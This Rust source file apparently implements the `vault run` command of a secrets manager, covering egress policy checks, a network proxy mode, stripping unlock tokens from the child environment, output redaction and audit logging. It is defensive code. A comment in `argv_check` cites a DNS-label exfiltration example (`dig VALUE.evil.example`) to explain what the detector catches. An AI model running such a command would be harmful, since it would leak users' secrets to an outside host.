//! `vault run`: the whole life of a wrapped command, top to bottom.
//!
//! 1. open the store (config, unlock, decrypt);
//! 2. plan the injection (`--only`, placeholders) — an unknown name fails here;
//! 3. egress: destinations in argv against each injected secret's policy; confirm asks on
//!    /dev/tty (no terminal ⇒ refused); every decision is audited;
//! 4. build the child's environment (vault's own, minus unlock material, plus the secrets)
//!    and its argv (placeholders resolved, byte-exact);
//! 5. spawn on a PTY or pipes and relay every output byte through the redactor;
//! 6. audit the run (argv as typed with values redacted, hosts, decisions, exit status,
//!    duration, redaction counts) and return the child's status.

use std::ffi::{OsStr, OsString};
use std::os::unix::ffi::OsStrExt;
use std::sync::{Arc, Mutex, OnceLock};
use std::time::Instant;

use crate::audit;
use crate::cli::RunArgs;
use crate::cmd::Opened;
use crate::config::PtyPref;
use crate::egress;
use crate::error::{Error, Result};
use crate::exit::Exit;
use crate::inject;
use crate::pty::{self, ChildExit, Mode, RunError, Spawn};
use crate::redact::{PatternSet, Patterns, Redactor};
use crate::relay::Filter;
use crate::secret::SecretName;

/// Label under which unlock material (identity strings) is redacted.
const UNLOCK_LABEL: &str = "VAULT_IDENTITY";

/// Environment variables that carry unlock material and never reach a child: the
/// identity routes, and a remote store's server token and AppRole credentials.
fn is_unlock_var(name: &std::ffi::OsStr) -> bool {
    ["VAULT_IDENTITY", "VAULT_IDENTITY_FILE"]
        .iter()
        .chain(crate::remote::auth::TOKEN_VARS)
        .any(|u| name == *u)
}

/// Runs the command; returns its exit status.
pub fn run(args: &RunArgs) -> Result<Exit> {
    let started = Instant::now();
    if let Some(ttl) = args.cache {
        crate::remote::cache::enable(ttl);
    }
    let opened = crate::cmd::open()?;
    if args.cache.is_some() && !crate::remote::active() {
        return Err(Error::new(
            Exit::Usage,
            "--cache applies to remote stores only (a local store is already on this disk)",
        ));
    }
    let plan = inject::plan(&opened.contents, &args.only, &args.command)?;
    let set = Arc::new(pattern_set(&opened));
    // The automaton is compiled when the child's output first needs it; argv and messages are
    // redacted with only the patterns that occur in them.
    let compiled = Arc::new(Compiling::new(Arc::clone(&set)));
    let shown_argv = redacted_argv(&args.command, &set);
    let env_names: Vec<String> = plan.env.iter().map(|n| n.as_str().to_owned()).collect();

    let net_mode = crate::net::effective(args.net, opened.config.net);
    let allow_hosts = net_flags(args, net_mode)?;
    // Under strict the network enforces the policy, so a destination the argv check cannot
    // read is left to it; a readable destination that is denied still refuses here.
    let net_enforced = net_mode != crate::net::NetMode::Argv;
    let check = egress_check(
        &opened,
        &plan,
        &args.command,
        &shown_argv,
        &set,
        net_enforced,
    )?;
    let mut entry = audit::Entry::new("run", env_names);
    entry.argv = Some(shown_argv.clone());
    entry.hosts.clone_from(&check.hosts);
    entry.decision = Some(check.decision.clone());
    // Fail closed: a run that could not be audited does not start.
    let checked = audit::check_writable(&opened.paths)?;
    let broker = broker_session(&opened, &plan, net_mode, args.net_ca.as_deref())?;
    let mut net = net_session(&opened, &plan, net_mode, allow_hosts, &set, broker.as_ref())?;
    // Under --net broker the child's environment and placeholders get stand-ins.
    let child_view = broker.as_ref().map(|b| b.child_contents(&opened.contents));
    let for_child = child_view.as_ref().unwrap_or(&opened.contents);

    let argv = inject::substitute(&args.command, for_child)?;
    let mut os_argv = inject::to_os(&argv);
    drop(argv);
    let program = os_argv.remove(0);
    let spawn = Spawn {
        program,
        args: os_argv,
        // As typed, and redacted: a value typed into the command word must not come back
        // in "command not found".
        display: shown_argv.first().cloned().unwrap_or_default(),
        secrets: plan
            .entries(for_child)
            .into_iter()
            .map(|(n, e)| (OsStr::new(n.as_str()), OsStr::from_bytes(e.value.expose())))
            .collect(),
        env: {
            let mut env = child_env(&plan);
            if net.is_some() {
                crate::net::Session::child_env(&mut env);
            }
            if let Some(b) = &broker {
                b.child_env(&mut env);
            }
            env
        },
        cwd: std::env::current_dir().map_err(|e| Error::io("current directory", &e))?,
        mode: mode(args, opened.config.pty),
        pre_exec: net.as_mut().and_then(crate::net::Session::hook),
    };
    let totals = Arc::new(Mutex::new(vec![0u64; set.names().len()]));
    let mut make = || -> Box<dyn Filter> {
        Box::new(Counted {
            compiled: Arc::clone(&compiled),
            redactor: None,
            totals: Arc::clone(&totals),
            reported: vec![0; set.names().len()],
        })
    };
    let result = pty::run(spawn, &mut make);
    // The namespace could not be made: that, not the failed spawn, is the error.
    let net_refused = net.and_then(|n| n.finish(crate::relay::DRAIN_CAP));

    let counts = totals.lock().map(|t| t.clone()).unwrap_or_default();
    entry.redactions = Some(
        set.names()
            .iter()
            .zip(counts)
            .filter(|(_, n)| *n > 0)
            .map(|(k, n)| (k.clone(), n))
            .collect(),
    );
    entry.duration_ms = Some(u64::try_from(started.elapsed().as_millis()).unwrap_or(u64::MAX));
    let outcome = match result {
        _ if net_refused.is_some() => {
            let err = net_refused.unwrap_or_else(|| Error::new(Exit::Unavailable, ""));
            entry.exit = Some(err.exit.code());
            entry.note = Some(err.message.clone());
            Err(err)
        }
        Ok(exit) => {
            let code = exit.exit_code();
            entry.exit = Some(code);
            if let ChildExit::Signal(n) = exit {
                entry.note = Some(format!("killed by signal {n}"));
            }
            Ok(Exit::Child(code))
        }
        Err(e) => {
            let err = run_error(e);
            entry.exit = Some(err.exit.code());
            entry.note = Some(err.message.clone());
            Err(err)
        }
    };
    let summary = args
        .json_summary
        .as_ref()
        .map(|_| summary(&entry, net_mode));
    audit::append_checked(&opened.paths, entry, &checked)?;
    if let (Some(file), Some(summary)) = (&args.json_summary, summary) {
        write_summary(file, &summary)?;
    }
    outcome
}

/// `--json-summary FILE`: the run's audit entry as a harness reads it (names, hosts,
/// decisions and counts; never a value), written when the run ends.
fn summary(entry: &audit::Entry, net: crate::net::NetMode) -> serde_json::Value {
    serde_json::json!({
        "exit": entry.exit,
        "network": net.as_str(),
        "secrets": entry.secrets,
        "destinations": entry.hosts,
        "decision": entry.decision,
        "redactions": entry.redactions,
        "duration_ms": entry.duration_ms,
        "note": entry.note,
    })
}

fn write_summary(file: &std::path::Path, summary: &serde_json::Value) -> Result<()> {
    let mut text = serde_json::to_vec_pretty(summary).unwrap_or_default();
    text.push(b'\n');
    std::fs::write(file, text).map_err(|e| Error::io("the --json-summary file", &e))
}

/// The refusal for denied (secret, destination) pairs, one clause per destination and rule:
/// which secrets blocked the run, and the narrowing (`--only`) that lets it go ahead when
/// the command does not need them.
fn deny_message(denials: &[egress::Denial], text: &dyn Fn(&str) -> String) -> (String, String) {
    let mut groups: Vec<(String, &str, Vec<&str>)> = Vec::new();
    for d in denials {
        let dest = text(&d.destination);
        match groups
            .iter_mut()
            .find(|(g, rule, _)| *g == dest && *rule == d.rule)
        {
            Some((_, _, names)) => names.push(&d.secret),
            None => groups.push((dest, &d.rule, vec![&d.secret])),
        }
    }
    let clauses: Vec<String> = groups
        .iter()
        .map(|(dest, rule, names)| {
            let shown = if names.len() > 3 {
                format!("{} and {} more", names[..3].join(", "), names.len() - 3)
            } else {
                names.join(", ")
            };
            format!("{shown} may not be sent to {dest} ({rule})")
        })
        .collect();
    let first = denials.first();
    let name = first.map_or("NAME", |d| d.secret.as_str());
    let host = groups.first().map_or("HOST", |(d, _, _)| d.as_str());
    let hint = format!(
        "if the command does not need {name}, name only the secrets it needs with `vault run --only NAME -- …`; otherwise `vault policy set {name} --allow {host}` changes the rule"
    );
    (format!("refusing to run: {}", clauses.join("; ")), hint)
}

/// The redaction patterns, compiled: every stored secret (not only the injected ones) and the
/// unlock material.
#[must_use]
pub fn patterns(opened: &Opened) -> Arc<Patterns> {
    Arc::new(pattern_set(opened).compile())
}

/// The redaction patterns, not yet compiled.
fn pattern_set(opened: &Opened) -> PatternSet {
    let mut items: Vec<(&str, &[u8])> = opened
        .contents
        .secrets
        .iter()
        .map(|(k, e)| (k.as_str(), e.value.expose()))
        .collect();
    for material in &opened.unlocked.material {
        for line in material.lines().map(str::trim) {
            // `#` comments, and the armour lines of an SSH key, are not secret.
            if !line.is_empty() && !line.starts_with('#') && !line.starts_with("-----") {
                items.push((UNLOCK_LABEL, line.as_bytes()));
            }
        }
    }
    PatternSet::new(items, true)
}

/// The compiled patterns, built when a stream's first byte needs them, in two stages
/// ([`PatternSet::compile_staged`]): before the first output only the first 8–39 bytes of
/// every form (what the sampling filter and the hold-back read), the whole forms only when
/// the output holds one of those heads. A command that prints nothing pays for neither.
struct Compiling {
    set: Arc<PatternSet>,
    done: OnceLock<Arc<Patterns>>,
}

impl Compiling {
    fn new(set: Arc<PatternSet>) -> Compiling {
        Compiling {
            set,
            done: OnceLock::new(),
        }
    }

    /// The patterns; a second stream asking while the first compiles waits for it.
    fn get(&self) -> Arc<Patterns> {
        Arc::clone(
            self.done
                .get_or_init(|| Arc::new(PatternSet::compile_staged(&self.set))),
        )
    }
}

/// argv as the user typed it (placeholders stay as written), with any value that was
/// typed literally redacted, for the audit log.
fn redacted_argv(argv: &[OsString], set: &PatternSet) -> Vec<String> {
    argv.iter()
        .map(|a| scrub(set, a.as_encoded_bytes()))
        .collect()
}

/// Text derived from argv, made safe for a message, the terminal or the audit log: every
/// stored value (and encoding) redacted, control characters escaped.
fn scrub(set: &PatternSet, text: &[u8]) -> String {
    crate::escape::bytes(&set.redact_text(text))
}

fn mode(args: &RunArgs, pref: PtyPref) -> Mode {
    if args.pty {
        Mode::Pty
    } else if args.no_pty {
        Mode::Pipes
    } else {
        match pref {
            PtyPref::Auto => Mode::Auto,
            PtyPref::Always => Mode::Pty,
            PtyPref::Never => Mode::Pipes,
        }
    }
}

/// vault's environment without unlock material and without the variables the injected
/// secrets (`Spawn::secrets`) set.
fn child_env(plan: &inject::Plan) -> Vec<(OsString, OsString)> {
    let mut injected: Vec<&str> = plan.env.iter().map(SecretName::as_str).collect();
    injected.sort_unstable();
    std::env::vars_os()
        .filter(|(k, _)| !is_unlock_var(k))
        .filter(|(k, _)| {
            k.to_str()
                .is_none_or(|k| injected.binary_search(&k).is_err())
        })
        .collect()
}

fn run_error(e: RunError) -> Error {
    let exit = match &e {
        RunError::NotFound { .. } => Exit::NotFound,
        RunError::NotExecutable { .. } => Exit::NotExecutable,
        _ => Exit::RunFailed,
    };
    let mut err = Error::new(exit, e.to_string());
    if exit == Exit::NotFound {
        err = err.hint("check the command name and PATH");
    }
    err
}

/// A redactor that adds its counts to the run's totals when its stream ends. It is made at
/// the stream's first byte, when the patterns are needed.
struct Counted {
    compiled: Arc<Compiling>,
    redactor: Option<Redactor>,
    totals: Arc<Mutex<Vec<u64>>>,
    reported: Vec<u64>,
}

impl Filter for Counted {
    fn feed(&mut self, input: &[u8], out: &mut Vec<u8>) {
        if input.is_empty() {
            return;
        }
        let compiled = &self.compiled;
        self.redactor
            .get_or_insert_with(|| Redactor::new(compiled.get()))
            .feed(input, out);
    }

    fn finish(&mut self, out: &mut Vec<u8>) {
        // No byte was fed: nothing is held and nothing was redacted.
        let Some(redactor) = self.redactor.as_mut() else {
            return;
        };
        redactor.finish(out);
        if let Ok(mut totals) = self.totals.lock() {
            for (i, n) in redactor.counts().iter().enumerate() {
                if let (Some(t), Some(r)) = (totals.get_mut(i), self.reported.get_mut(i)) {
                    *t += n - *r;
                    *r = *n;
                }
            }
        }
    }
}

/// What the egress check found and decided.
struct EgressCheck {
    hosts: Vec<String>,
    decision: serde_json::Value,
}

/// The argv egress decision `vault run` makes for `plan`: `egress::check_argv` with the
/// injected secrets' policies, and their values as the DNS-label rule's evidence. `run`,
/// the Claude Code hook and MCP's `check` all call this, so they cannot disagree.
pub(crate) fn argv_check(
    opened: &Opened,
    plan: &inject::Plan,
    template: &[String],
) -> egress::policy::Check {
    let entries = plan.entries(&opened.contents);
    let secrets: Vec<(&str, &egress::Policy)> = entries
        .iter()
        .map(|(n, e)| (n.as_str(), &e.policy))
        .collect();
    // A value sent out as a DNS label (`dig VALUE.evil.example`): names are
    // case-insensitive, so the comparison is too. Short values stay out, as in the
    // redactor's encodings. Lowercased only when a destination is there to compare.
    let values: std::cell::OnceCell<Vec<zeroize::Zeroizing<Vec<u8>>>> = std::cell::OnceCell::new();
    let holds_secret = |host: &str| {
        let values = values.get_or_init(|| {
            entries
                .iter()
                .map(|(_, e)| e)
                .filter(|e| e.value.len() >= crate::secret::MIN_VALUE_LEN)
                .map(|e| zeroize::Zeroizing::new(e.value.expose().to_ascii_lowercase()))
                .collect()
        });
        let host = host.as_bytes().to_ascii_lowercase();
        values
            .iter()
            .any(|v| host.windows(v.len()).any(|w| w == v.as_slice()))
    };
    egress::check_argv(&secrets, template, &holds_secret)
}

/// Checks the destinations in argv against each injected secret's policy. Refusals and
/// confirmations are audited here; an allowed run is audited when it ends.
fn egress_check(
    opened: &Opened,
    plan: &inject::Plan,
    argv: &[OsString],
    shown: &[String],
    set: &PatternSet,
    net_enforced: bool,
) -> Result<EgressCheck> {
    let template: Vec<String> = argv
        .iter()
        .map(|a| a.to_string_lossy().into_owned())
        .collect();
    // Only a refusal or a confirmation names the secrets here; an allowed run is audited
    // when it ends.
    let names = || -> Vec<String> { plan.env.iter().map(|n| n.as_str().to_owned()).collect() };
    let text = |s: &str| scrub(set, s.as_bytes());
    // Audits the refusal; the error is the refusal (with its hint), or the audit failure
    // when the refusal could not be recorded.
    let refuse =
        |hosts: Vec<String>, decision: serde_json::Value, message: String, hint: &str| -> Error {
            let mut entry = audit::Entry::new("deny", names());
            entry.argv = Some(shown.to_vec());
            entry.hosts = hosts;
            entry.decision = Some(decision);
            if let Err(e) = audit::append(&opened.paths, entry) {
                return e;
            }
            Error::new(Exit::Denied, message).hint(hint)
        };
    const EVASION_HINT: &str = "an argv check cannot follow proxies, config files or header tricks; run the command without them";
    let check = argv_check(opened, plan, &template);
    let hosts: Vec<String> = check
        .destinations
        .iter()
        .map(|d| text(&d.to_string()))
        .collect();
    match check.decision {
        egress::policy::Decision::Allow => Ok(EgressCheck {
            decision: serde_json::json!(if plan.env.is_empty() {
                "allow: no secret injected"
            } else if hosts.is_empty() {
                "allow: no destination in argv"
            } else {
                "allow"
            }),
            hosts,
        }),
        egress::policy::Decision::Deny(denials) => {
            let lines: Vec<String> = denials.iter().map(|d| text(&d.to_string())).collect();
            let decision = serde_json::json!({ "deny": lines });
            let (message, hint) = deny_message(&denials, &text);
            Err(refuse(hosts, decision, message, &hint))
        }
        // Under --net strict|broker the network enforces the policy: what argv hides is
        // judged by the proxy, connection by connection. (A readable, denied destination
        // still refuses before anything runs: the clearer error.) No hosts in the audit: one
        // may hold a value.
        egress::policy::Decision::Refuse(evasion) if net_enforced => Ok(EgressCheck {
            decision: serde_json::json!({ "unchecked": text(&evasion.to_string()), "enforced": "net" }),
            hosts: Vec::new(),
        }),
        egress::policy::Decision::Refuse(evasion) => {
            let evasion = text(&evasion.to_string());
            // No hosts in the audit: one of them may hold a value (a DNS label).
            Err(refuse(
                Vec::new(),
                serde_json::json!({ "refused": evasion }),
                format!("refusing to run: the destination cannot be checked: {evasion}"),
                EVASION_HINT,
            ))
        }
        egress::policy::Decision::Confirm(pairs) => {
            // A confirm rule widens where a value goes for this run: an approval (a one-time
            // code on the user's own terminal), never a typed y/N.
            let shown_pairs: Vec<(String, String)> = pairs
                .iter()
                .map(|(s, h)| (s.to_string(), text(h)))
                .collect();
            let list: Vec<String> = shown_pairs
                .iter()
                .map(|(s, h)| format!("  {s} -> {h}"))
                .collect();
            let detail = format!(
                "vault: this run would send secrets to hosts that need your approval:\n{}",
                list.join("\n")
            );
            let approved = crate::approval::require_with(
                &opened.paths,
                &crate::approval::Action::ConfirmEgress {
                    pairs: &shown_pairs,
                },
                &detail,
            );
            let decision = serde_json::json!({ "confirm": list.iter().map(|l| l.trim()).collect::<Vec<_>>(), "answer": if approved.is_ok() { "approved" } else { "refused" } });
            let mut entry = audit::Entry::new("confirm", names());
            entry.argv = Some(shown.to_vec());
            entry.hosts.clone_from(&hosts);
            entry.decision = Some(decision.clone());
            audit::append(&opened.paths, entry)?;
            match approved {
                Ok(()) => Ok(EgressCheck { hosts, decision }),
                Err(e) => {
                    let mut err =
                        Error::new(Exit::Denied, format!("refusing to run: {}", e.message));
                    err.hint = e.hint;
                    Err(err)
                }
            }
        }
    }
}

/// The `--allow-host` patterns, checked against the effective `--net` mode: they and
/// `--net-ca` mean nothing under `argv`, and a flag that silently does nothing would mislead.
fn net_flags(args: &RunArgs, mode: crate::net::NetMode) -> Result<Vec<egress::HostPattern>> {
    use crate::net::NetMode;
    if mode == NetMode::Argv && !args.allow_host.is_empty() {
        return Err(Error::new(
            Exit::Usage,
            "--allow-host applies only with --net strict or broker",
        ));
    }
    if mode != NetMode::Broker && args.net_ca.is_some() {
        return Err(Error::new(
            Exit::Usage,
            "--net-ca applies only with --net broker",
        ));
    }
    args.allow_host
        .iter()
        .map(|p| {
            egress::HostPattern::parse(p)
                .map_err(|e| Error::new(Exit::DataErr, format!("--allow-host: {e}")))
        })
        .collect()
}

/// The network control of a run: `None` under `argv`; the namespace and proxy under
/// `strict`. Its rules: every injected secret's policy, and `--allow-host`.
fn net_session(
    opened: &Opened,
    plan: &inject::Plan,
    mode: crate::net::NetMode,
    allow_hosts: Vec<egress::HostPattern>,
    set: &Arc<PatternSet>,
    broker: Option<&crate::net::broker::session::Session>,
) -> Result<Option<crate::net::Session>> {
    use crate::net::{NetMode, judge, proxy};
    if mode == NetMode::Argv {
        return Ok(None);
    }
    let policies: Vec<(String, egress::Policy)> = plan
        .env
        .iter()
        .filter_map(|n| {
            opened
                .contents
                .get(n)
                .map(|e| (n.to_string(), e.policy.clone()))
        })
        .collect();
    let names = policies.iter().map(|(n, _)| n.clone()).collect();
    // Under broker, the secrets the child holds only as stand-ins are judged as brokered.
    let (brokered, real): (Vec<_>, Vec<_>) = policies
        .into_iter()
        .partition(|(n, _)| broker.is_some_and(|b| b.brokered().any(|x| x == n)));
    let intercept = broker.map(|b| {
        let hook: Arc<dyn proxy::Intercept> = b.broker.clone();
        hook
    });
    let set = Arc::clone(set);
    let ctx = proxy::Context {
        rules: judge::Rules {
            real,
            brokered,
            allow_hosts,
            broker: mode == NetMode::Broker,
        },
        paths: opened.paths.clone(),
        names,
        mode: mode.as_str(),
        redact: Arc::new(move |s: &str| scrub(&set, s.as_bytes())),
        intercept,
    };
    crate::net::Session::prepare(mode, ctx)
}

/// Under `--net broker`: the stand-ins, the run's CA and the child's bundle (`None` in the
/// other modes).
fn broker_session(
    opened: &Opened,
    plan: &inject::Plan,
    mode: crate::net::NetMode,
    net_ca: Option<&std::path::Path>,
) -> Result<Option<crate::net::broker::session::Session>> {
    if mode != crate::net::NetMode::Broker {
        return Ok(None);
    }
    crate::net::broker::session::Session::prepare(&opened.contents, &plan.env, net_ca).map(Some)
}

#[cfg(test)]
mod remote_tests {
    #[test]
    fn every_server_token_variable_is_stripped_from_the_child() {
        for var in crate::remote::auth::TOKEN_VARS {
            assert!(
                super::is_unlock_var(std::ffi::OsStr::new(var)),
                "{var} would reach the child"
            );
        }
    }
}
